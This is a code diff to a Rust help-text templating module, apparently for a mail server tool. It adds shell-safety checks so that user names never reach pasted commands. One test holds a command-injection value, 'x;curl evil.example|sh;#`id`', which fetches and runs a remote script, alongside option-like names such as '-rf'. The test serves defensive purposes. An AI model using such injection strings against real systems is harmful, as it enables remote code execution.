@@ -9,6 +9,8 @@ use std::fmt;
 
 use serde::{Deserialize, Serialize};
 
+use crate::event::clean;
+
 /// What there is to say about a cause.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
 pub struct Section {
@@ -132,7 +134,8 @@ pub struct Words<'a> {
     pub starttls_port: u16,
     /// The port for TLS from the first octet: 465, unless it is moved.
     pub tls_port: u16,
-    /// Whom it concerns; without one, sentences say "your account" and "your user name", and commands `NAME`.
+    /// Whose account it concerns, never what a client claims. Without one, sentences say "your account" and "your user name", and
+    /// commands `NAME`, as they do where the name could mean something to a shell.
     pub user: Option<&'a str>,
 }
 
@@ -141,9 +144,12 @@ impl Words<'_> {
     pub fn fill(&self, text: &str) -> String {
         let mut filled = String::with_capacity(text.len() + 32);
         let mut rest = text;
+        let mut stands = Stands::InWords;
         while let Some((before, place)) = rest.split_once('{') {
             filled.push_str(before);
-            let known = place.split_once('}').and_then(|(name, after)| Some((self.value(name)?, after)));
+            stands = stands.after(before);
+            let value = |(name, after)| Some((self.value(name, stands)?, after));
+            let known = place.split_once('}').and_then(value);
             if let Some((value, after)) = known {
                 filled.push_str(&value);
                 rest = after;
@@ -156,12 +162,12 @@ impl Words<'_> {
         filled
     }
 
-    fn value(&self, name: &str) -> Option<String> {
+    fn value(&self, name: &str, stands: Stands) -> Option<String> {
         match name {
             "host" => Some(self.host.to_owned()),
             "starttls_port" => Some(self.starttls_port.to_string()),
             "tls_port" => Some(self.tls_port.to_string()),
-            "user" => Some(self.user.unwrap_or("NAME").to_owned()),
+            "user" => Some(self.name(stands)),
             "login" => Some(self.about("user name", "your user name")),
             "account" => Some(self.about("the account", "your account")),
             _ => None,
@@ -170,8 +176,46 @@ impl Words<'_> {
 
     /// What the name is, with it; else what is said without one.
     fn about(&self, what: &str, without: &str) -> String {
-        self.user.map_or_else(|| without.to_owned(), |user| format!("{what} {user}"))
+        self.user.map_or_else(|| without.to_owned(), |user| format!("{what} {}", in_words(user)))
     }
+
+    fn name(&self, stands: Stands) -> String {
+        match (stands, self.user) {
+            (Stands::InCommand, Some(user)) if is_plain(user) => user.to_owned(),
+            (Stands::InCommand, _) => "NAME".to_owned(),
+            (Stands::InWords, Some(user)) => in_words(user),
+            (Stands::InWords, None) => "NAME".to_owned(),
+        }
+    }
+}
+
+/// Where a place stands in a text.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Stands {
+    InWords,
+    /// Between backticks: to be pasted into a shell or a file.
+    InCommand,
+}
+
+impl Stands {
+    fn after(self, text: &str) -> Self {
+        match (self, text.matches('`').count() % 2) {
+            (Self::InWords, 1) => Self::InCommand,
+            (Self::InCommand, 1) => Self::InWords,
+            (same, _) => same,
+        }
+    }
+}
+
+/// A name in a sentence: it can neither begin nor end a command.
+fn in_words(user: &str) -> String {
+    clean(user).replace('`', "?")
+}
+
+/// A name that means nothing to a shell, nor an option to a command.
+fn is_plain(name: &str) -> bool {
+    let plain = |c: char| c.is_ascii_alphanumeric() || ".@_+-".contains(c);
+    name.starts_with(|c: char| c.is_ascii_alphanumeric()) && name.chars().all(plain)
 }
 
 #[cfg(test)]
@@ -196,6 +240,27 @@ mod tests {
         assert_eq!(words.fill(text), filled);
         let words = Words { user: Some("anna"), ..WORDS };
         assert_eq!(words.fill(text), "Of the account anna: `postern user show anna`. Enter user name anna.");
+    }
+
+    #[test]
+    fn a_command_has_a_name_in_it_only_if_it_means_nothing_to_a_shell() {
+        let text = "Of {user}: `postern user show {user}`, then `x` {user} and `y {user}`.";
+        let filled = |user| Words { user, ..WORDS }.fill(text);
+        let anna = "anna.b+c@home-1.test";
+        assert_eq!(filled(Some(anna)), text.replace("{user}", anna));
+        assert_eq!(
+            filled(None),
+            "Of NAME: `postern user show NAME`, then `x` NAME and `y NAME`."
+        );
+        let hostile = "x;curl evil.example|sh;#`id`";
+        let told = hostile.replace('`', "?");
+        assert_eq!(
+            filled(Some(hostile)),
+            format!("Of {told}: `postern user show NAME`, then `x` {told} and `y NAME`.")
+        );
+        for name in ["", "--json", "-rf", "a b", "a$b", "a\u{202e}b", "ü", "a'b", "a\\b", ".x"] {
+            assert!(!is_plain(name), "{name}");
+        }
     }
 
     #[test]
